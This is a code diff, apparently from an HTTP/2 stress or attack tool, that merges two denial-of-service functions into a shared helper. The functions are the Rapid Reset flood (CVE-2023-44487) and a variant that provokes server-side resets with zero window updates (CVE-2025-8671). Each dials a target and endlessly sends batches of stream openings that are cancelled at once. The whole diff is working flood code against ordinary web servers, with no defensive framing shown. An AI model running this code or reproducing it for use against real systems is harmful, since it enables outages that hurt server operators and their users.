@@ -232,24 +232,25 @@ def indexed_fields(target):
         connection.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
 
 
+def end_each_call(target, kind, value):
+    """Calls that are begun and ended at once by a frame with one number."""
+    connection = target.dial()
+    block, end = headers(), struct.pack(">I", value)
+    for first in itertools.count(1, 200):
+        connection.send(b"".join(frame(HEADERS, END_HEADERS, stream, block) + frame(kind, 0, stream, end)
+                                 for stream in range(first, first + 200, 2)))
+
+
 @again
 def resets(target):
     """Calls that are begun and reset at once (CVE-2023-44487)."""
-    connection = target.dial()
-    block = headers()
-    for first in itertools.count(1, 200):
-        connection.send(b"".join(frame(HEADERS, END_HEADERS, first + i, block)
-                                 + frame(RST_STREAM, 0, first + i, struct.pack(">I", 8)) for i in range(0, 200, 2)))
+    end_each_call(target, RST_STREAM, 8)
 
 
 @again
 def made_resets(target):
     """Calls that the server has to reset itself: a window update of zero for each (CVE-2025-8671)."""
-    connection = target.dial()
-    block = headers()
-    for first in itertools.count(1, 200):
-        connection.send(b"".join(frame(HEADERS, END_HEADERS, first + i, block)
-                                 + frame(WINDOW_UPDATE, 0, first + i, struct.pack(">I", 0)) for i in range(0, 200, 2)))
+    end_each_call(target, WINDOW_UPDATE, 0)
 
 
 @again
